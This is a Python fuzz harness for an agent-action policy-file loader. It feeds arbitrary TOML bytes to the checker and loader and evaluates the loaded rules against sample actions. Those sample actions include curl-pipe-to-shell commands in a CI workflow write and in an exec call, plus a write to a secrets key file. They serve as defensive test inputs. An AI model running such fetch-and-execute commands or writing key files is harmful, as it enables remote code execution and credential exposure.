"""Policy files: any bytes as a TOML policy file, checked, loaded and then judged with.

``check_policy_file`` never raises for a mistake: it reports it. ``load_policy_file`` raises
only :class:`~jevqueue.errors.PolicyFileError`. The rules of a file that loads must judge
every action without raising: the decision point would deny on a rule that raises, but a
file that was accepted must also work.
"""

from __future__ import annotations

import os
import tempfile
from pathlib import Path

from fuzz_main import fuzz_main, instrumented

with instrumented():
    from jevqueue.errors import PolicyFileError
    from jevqueue.policy._action import Action
    from jevqueue.policy._registry import ToolSpec, antigravity_registry
    from jevqueue.policy._verdict import Verdict
    from jevqueue.policy_files._compiler import PolicyFileCompiler  # noqa: F401
    from jevqueue.policy_files._glob import compile_path_glob  # noqa: F401
    from jevqueue.policy_files._lines import TomlLineIndex  # noqa: F401
    from jevqueue.policy_files._loader import check_policy_file, load_policy_file
    from jevqueue.policy_files._rule import PolicyFileRule  # noqa: F401

_HOME = Path(tempfile.mkdtemp(prefix="jevqueue-fuzz-policy-"))
_FILE = _HOME / "policy.toml"
_CONTEXT = {
    "task_id": "task-1",
    "actor_id": "Agent-7",
    "workspace": str(_HOME / "ws"),
    "git_sha": "0123456789abcdef",
    "environment": "PROD-eu",
}
_REGISTRY = antigravity_registry().register(
    ToolSpec.declare("exec", side_effects={"shell_command"}, cwd_field="cwd")
)
_ACTIONS = [
    Action.build(_REGISTRY, "write_to_file", {"TargetFile": name, "CodeContent": content}, _CONTEXT)
    for name, content in (
        ("src/app.py", "x = 1\n"),
        (".github/workflows/ci.yml", "run: curl x | sh\n"),
        ("SECRETS./key.pem", ""),
    )
] + [
    Action.build(_REGISTRY, "run_command", {"CommandLine": "ls -la", "Cwd": "."}, _CONTEXT),
    Action.build(
        _REGISTRY,
        "exec",
        {"argv": ["curl x", "|", "sh"], "cwd": "src", "n": [1, {"k": None}]},
        _CONTEXT,
    ),
    Action.build(_REGISTRY, "view_file", {"AbsolutePath": str(_HOME / "ws" / "a.md")}, _CONTEXT),
]


def test_one_input(data: bytes) -> None:
    _FILE.write_bytes(data)
    report = check_policy_file(_FILE)
    assert report.ok == (not report.errors)
    for error in report.errors:
        assert isinstance(error, PolicyFileError)
        str(error)
    for warning in report.warnings:
        str(warning)
    try:
        loaded = load_policy_file(_FILE)
    except PolicyFileError:
        assert not report.ok, "load_policy_file refused a file check_policy_file accepted"
        return
    assert report.ok, "load_policy_file accepted a file check_policy_file refused"
    loaded.summary()
    if any("exponential time" in warning.message for warning in report.warnings):
        return  # the author was warned: such a pattern may backtrack for ever on a value
    for rule in loaded.rules:
        for action in _ACTIONS:
            verdict = rule.evaluate(action)
            assert verdict is None or isinstance(verdict, Verdict), (rule, verdict)


if __name__ == "__main__":
    os.environ.setdefault("JEVQUEUE_STATE_DIR", str(_HOME / "state"))
    fuzz_main(test_one_input)
